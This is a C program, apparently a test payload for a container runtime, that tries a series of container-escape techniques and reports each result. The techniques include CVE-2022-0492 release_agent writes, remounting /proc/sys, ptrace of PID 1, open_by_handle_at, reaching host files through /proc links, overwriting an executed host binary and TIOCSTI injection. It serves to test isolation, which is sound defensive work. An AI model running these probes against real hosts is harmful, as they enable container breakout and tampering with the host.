/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attacks what holds it, as its arguments say, one after another, and tells of each in a line "NAME=RESULT": "ok" where
 * the attack succeeded, else the name of an errno, or what the verb's comment says.
 *
 *     open PATH           for writing; nothing is written
 *     caps                its capability sets, by their names in /proc/self/status
 *     cwd SECRET          a file of the host's, by its path on the host, looked for from the working directory upwards
 *     kernel-files        what of the host may be changed or read through /proc and /sys (or /decoy-proc, /decoy-sys)
 *     cgroups             a cgroup that may be written to, in any mount
 *     release-agent       CVE-2022-0492: own hierarchies, with and without a user namespace
 *     remount, uncover    makes /proc/sys writable; takes away what covers /proc/keys
 *     mknod               a node for /dev/kmsg, and opens it
 *     handle              open_by_handle_at(2) of the root directory of the file system below
 *     kallsyms, syslog    addresses and messages of the kernel
 *     ptrace-init         of PID 1: ptrace, its memory, executable, root, directory, environment, namespace
 *     stalk SECRET        until its input ends: reaches for SECRET, on the host, through every process that turns up
 *     overwrite           until its input ends: catches a program from elsewhere that is executed inside, says
 *                         "caught", then writes over it
 *     tiocsti             types into descriptor 0, 1, 2 and /dev/tty
 *     descriptors         how many are open beside 0, 1, 2
 *     mark PATH           the first line of a file, or an errno
 *
 * And it plays a runtime that has the faults these attack:
 *
 *     join PID COMMAND    with its own program, and without hiding, enters the namespaces of PID and executes COMMAND
 *     hold-join PID       enters them holding a descriptor of its old root, and waits for the end of its input
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <linux/magic.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#include "payload.h"

static void tell(const char *name, int error)
{
	static const struct {
		int error;
		const char *name;
	} names[] = {{0, "ok"},          {EPERM, "EPERM"},   {ENOENT, "ENOENT"}, {EACCES, "EACCES"},
		     {EROFS, "EROFS"},   {ENXIO, "ENXIO"},   {ENOTTY, "ENOTTY"}, {EIO, "EIO"},
		     {EINVAL, "EINVAL"}, {ENOSYS, "ENOSYS"}, {ENODEV, "ENODEV"}};
	for (size_t i = 0; i < sizeof names / sizeof *names; i++)
		if (names[i].error == error) {
			printf("%s=%s\n", name, names[i].name);
			return;
		}
	printf("%s=errno %d\n", name, error);
}

static int try_open(const char *path, int flags)
{
	int fd = open(path, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
	int error = fd < 0 ? errno : 0;
	if (fd >= 0)
		close(fd);
	return error;
}

/* Runs attack in a child, since it may change what the process is; its result is an errno. */
static void apart(const char *name, int (*attack)(void))
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0)
		_exit(attack());
	int status;
	while (waitpid(pid, &status, 0) < 0)
		;
	if (WIFEXITED(status))
		tell(name, WEXITSTATUS(status));
	else
		printf("%s=signal %d\n", name, WTERMSIG(status));
}

static bool input_has_ended(int timeout_ms)
{
	char byte;
	struct pollfd input = {.fd = 0, .events = POLLIN};
	return poll(&input, 1, timeout_ms) > 0 && read(0, &byte, 1) <= 0;
}

/* ---- What it has ---- */

static void caps(void)
{
	FILE *file = fopen("/proc/self/status", "re");
	char line[512];
	while (file && fgets(line, sizeof line, file)) {
		char name[16], value[32];
		if (strncmp(line, "Cap", 3) == 0 && sscanf(line, "%15[^:]: %31s", name, value) == 2)
			printf("%s=%s\n", name, value);
	}
	if (file)
		fclose(file);
}

static void descriptors(void)
{
	int count = 0;
	for (int fd = 3; fd < 65536; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			count++;
	printf("descriptors=%d\n", count);
}

static void mark(const char *path)
{
	char text[256];
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
	if (length < 0) {
		tell("mark", errno);
	} else {
		text[length] = '\0';
		text[strcspn(text, "\n")] = '\0';
		printf("mark=%s\n", text);
	}
	if (fd >= 0)
		close(fd);
}

static void cwd(const char *secret)
{
	char path[PATH_MAX] = ".", up[512] = "";
	int error = ENOENT;
	for (int i = 0; i < 64 && error; i++, strcat(up, "../")) {
		snprintf(path, sizeof path, "./%s%s", up, secret + 1);
		error = try_open(path, O_RDONLY);
	}
	tell("cwd", error);
}

/* ---- The kernel's files ---- */

/* Whether the file below can be opened for writing; nothing is written. */
static void may_write(int directory, const char *name)
{
	int fd = openat(directory, name, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		printf("may-write=%s\n", name);
		close(fd);
	}
}

static void may_read(int directory, const char *name)
{
	char byte;
	int fd = openat(directory, name, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0 && read(fd, &byte, 1) == 1)
		printf("may-read=%s\n", name);
	if (fd >= 0)
		close(fd);
}

/*
 * Whatever else there is that says it can be written to. Not what is of a process, or of the network namespace; and
 * pressure is anybody's to watch, by writing what for. Documentation/accounting/psi.rst
 */
static void visit_others(int directory, const char *path, int depth)
{
	DIR *stream = fdopendir(directory);
	for (const struct dirent *entry; stream && (entry = readdir(stream));) {
		static const char *const known[] = {"self", "thread-self", "net", "sys", "pressure"};
		const char *name = entry->d_name;
		bool is_known = name[0] == '.' || (depth == 0 && name[0] >= '0' && name[0] <= '9');
		for (size_t i = 0; depth == 0 && i < sizeof known / sizeof *known; i++)
			is_known |= strcmp(name, known[i]) == 0;
		struct stat status;
		if (is_known || fstatat(dirfd(stream), name, &status, AT_SYMLINK_NOFOLLOW) < 0)
			continue;
		char below[PATH_MAX];
		snprintf(below, sizeof below, "%s%s%s", path, *path ? "/" : "", name);
		int flags = S_ISDIR(status.st_mode) ? O_RDONLY | O_DIRECTORY : O_WRONLY | O_NONBLOCK;
		bool wanted = S_ISDIR(status.st_mode) || (S_ISREG(status.st_mode) && status.st_mode & 0222);
		int fd = wanted ? openat(dirfd(stream), name, flags | O_CLOEXEC) : -1;
		if (fd >= 0 && S_ISDIR(status.st_mode)) {
			visit_others(fd, below, depth + 1);
		} else if (fd >= 0) {
			printf("may-write=%s\n", below);
			close(fd);
		}
	}
	if (stream)
		closedir(stream);
	else
		close(directory);
}

static void visit_proc(int proc)
{
	static const char *const for_writing[] = {"sys/kernel/core_pattern", "sysrq-trigger",
						  "sys/user/max_user_namespaces", "sys/kernel/modprobe",
						  "irq/default_smp_affinity"};
	static const char *const for_reading[] = {"kcore", "keys", "timer_list", "interrupts"};
	for (size_t i = 0; i < sizeof for_writing / sizeof *for_writing; i++)
		may_write(proc, for_writing[i]);
	for (size_t i = 0; i < sizeof for_reading / sizeof *for_reading; i++)
		may_read(proc, for_reading[i]);
	int others = openat(proc, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (others >= 0)
		visit_others(others, "", 0);
}

static void visit_sys(int sys)
{
	may_write(sys, "kernel/uevent_helper");
	may_write(sys, "kernel/mm/transparent_hugepage/enabled");
	int firmware = openat(sys, "firmware", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *directory = firmware < 0 ? NULL : fdopendir(firmware);
	for (const struct dirent *entry; directory && (entry = readdir(directory));)
		if (entry->d_name[0] != '.')
			printf("may-read=firmware/%s\n", entry->d_name);
	if (directory)
		closedir(directory);
}

/*
 * The name, and the decoy that another process may exchange it with at any moment: whichever is of that type, held by a
 * descriptor, so that what is found is found there.
 */
static void visit_either(const char *name, const char *decoy, unsigned long magic, void (*visit)(int directory))
{
	for (int i = 0; i < 100000; i++) {
		struct statfs status;
		int fd = open(i % 2 ? decoy : name, O_PATH | O_DIRECTORY | O_CLOEXEC);
		bool found = fd >= 0 && fstatfs(fd, &status) == 0 && (unsigned long)status.f_type == magic;
		if (found)
			visit(fd);
		if (fd >= 0)
			close(fd);
		if (found) {
			printf("found=%s\n", name);
			return;
		}
	}
}

static void kernel_files(void)
{
	visit_either("/proc", "/decoy-proc", PROC_SUPER_MAGIC, visit_proc);
	visit_either("/sys", "/decoy-sys", SYSFS_MAGIC, visit_sys);
}

/* The mount points of a type; each is told to visit. */
static void each_mount(const char *type, void (*visit)(const char *point))
{
	FILE *file = fopen("/proc/self/mountinfo", "re");
	static char line[65536];
	while (file && fgets(line, sizeof line, file)) {
		char root[PATH_MAX], point[PATH_MAX], found[64];
		const char *dash = strstr(line, " - ");
		if (dash && sscanf(line, "%*d %*d %*s %4095s %4095s", root, point) == 2 &&
		    sscanf(dash + 3, "%63s", found) == 1 && strncmp(found, type, strlen(type)) == 0)
			visit(point);
	}
	if (file)
		fclose(file);
}

static void visit_cgroup(const char *point)
{
	char path[PATH_MAX + 32];
	static const char *const files[] = {"cgroup.procs", "release_agent", "tasks"};
	for (size_t i = 0; i < 3; i++) {
		snprintf(path, sizeof path, "%s/%s", point, files[i]);
		if (try_open(path, O_WRONLY) == 0)
			printf("may-write=%s\n", path);
	}
	snprintf(path, sizeof path, "%s/berth-escape", point);
	if (mkdir(path, 0755) == 0) {
		printf("may-write=%s\n", path);
		rmdir(path);
	}
}

/* Kernel 5.17 and later refuse the write to whoever lacks CAP_SYS_ADMIN outside; the mount is the runtime's to refuse.
 */
static int own_hierarchy(void)
{
	mkdir("/tmp/escape", 0755);
	if (mount("none", "/tmp/escape", "cgroup", 0, "none,name=berth-escape") < 0)
		return errno;
	int fd = open("/tmp/escape/release_agent", O_WRONLY | O_CLOEXEC);
	int error = fd < 0 || write(fd, "/berth-escape", 13) < 0 ? errno : 0;
	if (fd >= 0)
		close(fd);
	umount2("/tmp/escape", MNT_DETACH);
	return error;
}

static int own_hierarchy_as_own_root(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		return errno;
	mkdir("/tmp/escape", 0755);
	return mount("none", "/tmp/escape", "cgroup", 0, "memory") < 0 ? errno : 0;
}

static int remount(void)
{
	if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
		return errno;
	return try_open("/proc/sys/kernel/core_pattern", O_WRONLY);
}

static int remount_by_attribute(void)
{
	struct {
		unsigned long long set, clear, propagation, userns;
	} attributes = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
	if (syscall(SYS_mount_setattr, AT_FDCWD, "/proc/sys", 0, &attributes, sizeof attributes) < 0)
		return errno;
	return try_open("/proc/sys/kernel/core_pattern", O_WRONLY);
}

static int uncover(void)
{
	return umount2("/proc/keys", MNT_DETACH) < 0 ? errno : 0;
}

static int node_of_kmsg(void)
{
	if (mknod("/tmp/escape-node", S_IFCHR | 0600, makedev(1, 11)) < 0)
		return errno;
	int error = try_open("/tmp/escape-node", O_WRONLY);
	unlink("/tmp/escape-node");
	return error;
}

/* Without CAP_DAC_READ_SEARCH it would read any file of the file system that its root is on, by number. */
static int by_handle(void)
{
	union {
		struct file_handle handle;
		char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} its = {.handle.handle_bytes = MAX_HANDLE_SZ};
	int mount_id, root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (name_to_handle_at(root, "", &its.handle, &mount_id, AT_EMPTY_PATH) < 0)
		return errno;
	return open_by_handle_at(root, &its.handle, O_RDONLY) < 0 ? errno : 0;
}

static int addresses(void)
{
	FILE *file = fopen("/proc/kallsyms", "re");
	unsigned long long address = 0;
	return file && fscanf(file, "%llx", &address) == 1 && address ? 0 : EPERM;
}

static int messages(void)
{
	static char text[4096];
	return klogctl(3 /* SYSLOG_ACTION_READ_ALL */, text, sizeof text) < 0 ? errno : 0;
}

/* ---- Other processes ---- */

static int seize(pid_t pid)
{
	return ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0 ? errno : 0;
}

static int seize_init(void)
{
	return seize(1);
}

static void ptrace_init(void)
{
	static const struct {
		const char *name, *path;
		int flags;
	} files[] = {
		{"mem", "/proc/1/mem", O_RDWR},           {"exe", "/proc/1/exe", O_RDONLY},
		{"root", "/proc/1/root", O_RDONLY},       {"cwd", "/proc/1/cwd", O_RDONLY},
		{"environ", "/proc/1/environ", O_RDONLY}, {"ns", "/proc/1/ns/mnt", O_RDONLY},
	};
	apart("seize", seize_init);
	for (size_t i = 0; i < sizeof files / sizeof *files; i++)
		tell(files[i].name, try_open(files[i].path, files[i].flags));
}

/* Whether the secret can be reached below this magic link of the process's. */
static void reach(const char *pid, const char *link, const char *secret)
{
	char path[PATH_MAX];
	snprintf(path, sizeof path, "/proc/%s/%s%s", pid, link, secret);
	if (try_open(path, O_RDONLY) == 0)
		printf("reached=%s\n", link);
}

static void stalk_one(const char *pid, const char *secret)
{
	reach(pid, "root", secret);
	reach(pid, "cwd", secret);
	char path[64];
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *directory = opendir(path);
	for (const struct dirent *entry; directory && (entry = readdir(directory));) {
		char link[300];
		snprintf(link, sizeof link, "fd/%s", entry->d_name);
		if (entry->d_name[0] != '.')
			reach(pid, link, secret);
	}
	if (directory)
		closedir(directory);
}

static void each_process(void (*visit)(const char *pid, const char *argument), const char *argument)
{
	DIR *directory = opendir("/proc");
	for (const struct dirent *entry; directory && (entry = readdir(directory));)
		if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid())
			visit(entry->d_name, argument);
	if (directory)
		closedir(directory);
}

static void stalk(const char *secret)
{
	printf("stalking\n");
	while (!input_has_ended(0))
		each_process(stalk_one, secret);
	printf("stalked\n");
}

static int caught = -1;

/* Any but this one: nothing else of the container's own is executed meanwhile. */
static void catch_program(const char *pid, const char *argument)
{
	(void)argument;
	char path[64];
	struct stat program, own;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = caught < 0 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
	if (fd >= 0 && fstat(fd, &program) == 0 && stat("/proc/self/exe", &own) == 0 && program.st_ino != own.st_ino)
		caught = fd;
	else if (fd >= 0)
		close(fd);
}

static void overwrite(void)
{
	printf("lurking\n");
	while (caught < 0 && !input_has_ended(0))
		each_process(catch_program, NULL);
	if (caught < 0) {
		printf("overwrite=nothing caught\n");
		return;
	}
	printf("caught\n");
	char path[32];
	snprintf(path, sizeof path, "/proc/self/fd/%d", caught);
	int fd;
	/* ETXTBSY: it is still executed. */
	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
		sched_yield();
	tell("overwrite", fd < 0 || write(fd, "overwritten\n", 12) < 0 ? errno : 0);
}

static void tiocsti(void)
{
	static const char *const names[] = {"tiocsti-0", "tiocsti-1", "tiocsti-2"};
	for (int fd = 0; fd < 3; fd++)
		tell(names[fd], ioctl(fd, TIOCSTI, "x") < 0 ? errno : 0);
	int tty = open("/dev/tty", O_RDWR | O_CLOEXEC);
	tell("tiocsti-tty", tty < 0 || ioctl(tty, TIOCSTI, "x") < 0 ? errno : 0);
}

/* ---- A runtime with faults ---- */

/* It has given up its capabilities, as for the command, which it has yet to execute. */
static void give_up_capabilities(void)
{
	for (int capability = 0; prctl(PR_CAPBSET_DROP, capability, 0, 0, 0) == 0; capability++)
		;
	struct __user_cap_header_struct header = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct none[2] = {{0}};
	syscall(SYS_capset, &header, none);
}

static void enter(pid_t pid)
{
	int process = (int)syscall(SYS_pidfd_open, pid, 0);
	if (process < 0 || setns(process, CLONE_NEWNS | CLONE_NEWPID) < 0) {
		tell("enter", errno);
		exit(98);
	}
	close(process);
	pid_t child = fork();
	if (child == 0) {
		give_up_capabilities();
		return;
	}
	int status;
	while (waitpid(child, &status, 0) < 0)
		;
	exit(WIFEXITED(status) ? WEXITSTATUS(status) : 97);
}

static void join(pid_t pid, char *const *command)
{
	enter(pid);
	execv(command[0], command);
	tell("join", errno);
	exit(98);
}

static void hold_join(pid_t pid)
{
	int root = open("/", O_PATH | O_DIRECTORY);
	enter(pid);
	printf("holding=%d\n", root);
	while (!input_has_ended(-1))
		;
	exit(0);
}

int main(int argc, char **argv)
{
	say_line_by_line();
	for (int i = 1; i < argc; i++) {
		const char *verb = argv[i], *argument = i + 1 < argc ? argv[i + 1] : "";
		if (strcmp(verb, "open") == 0) {
			tell("open", try_open(argument, O_WRONLY));
			i++;
		} else if (strcmp(verb, "caps") == 0) {
			caps();
		} else if (strcmp(verb, "cwd") == 0) {
			cwd(argument);
			i++;
		} else if (strcmp(verb, "kernel-files") == 0) {
			kernel_files();
		} else if (strcmp(verb, "cgroups") == 0) {
			each_mount("cgroup", visit_cgroup);
			printf("visited\n");
		} else if (strcmp(verb, "release-agent") == 0) {
			apart("release-agent", own_hierarchy);
			apart("release-agent-userns", own_hierarchy_as_own_root);
		} else if (strcmp(verb, "remount") == 0) {
			apart("remount", remount);
			apart("remount-attribute", remount_by_attribute);
		} else if (strcmp(verb, "uncover") == 0) {
			apart("uncover", uncover);
		} else if (strcmp(verb, "mknod") == 0) {
			apart("mknod", node_of_kmsg);
		} else if (strcmp(verb, "handle") == 0) {
			apart("handle", by_handle);
		} else if (strcmp(verb, "kallsyms") == 0) {
			apart("kallsyms", addresses);
		} else if (strcmp(verb, "syslog") == 0) {
			apart("syslog", messages);
		} else if (strcmp(verb, "ptrace-init") == 0) {
			ptrace_init();
		} else if (strcmp(verb, "stalk") == 0) {
			stalk(argument);
			i++;
		} else if (strcmp(verb, "overwrite") == 0) {
			overwrite();
		} else if (strcmp(verb, "tiocsti") == 0) {
			tiocsti();
		} else if (strcmp(verb, "descriptors") == 0) {
			descriptors();
		} else if (strcmp(verb, "mark") == 0) {
			mark(argument);
			i++;
		} else if (strcmp(verb, "hold") == 0) {
			while (!input_has_ended(-1))
				;
		} else if (strcmp(verb, "join") == 0) {
			join((pid_t)number(argument), argv + i + 2);
		} else if (strcmp(verb, "hold-join") == 0) {
			hold_join((pid_t)number(argument));
		} else {
			fprintf(stderr, "escape: unknown verb %s\n", verb);
			return 99;
		}
	}
	return 0;
}
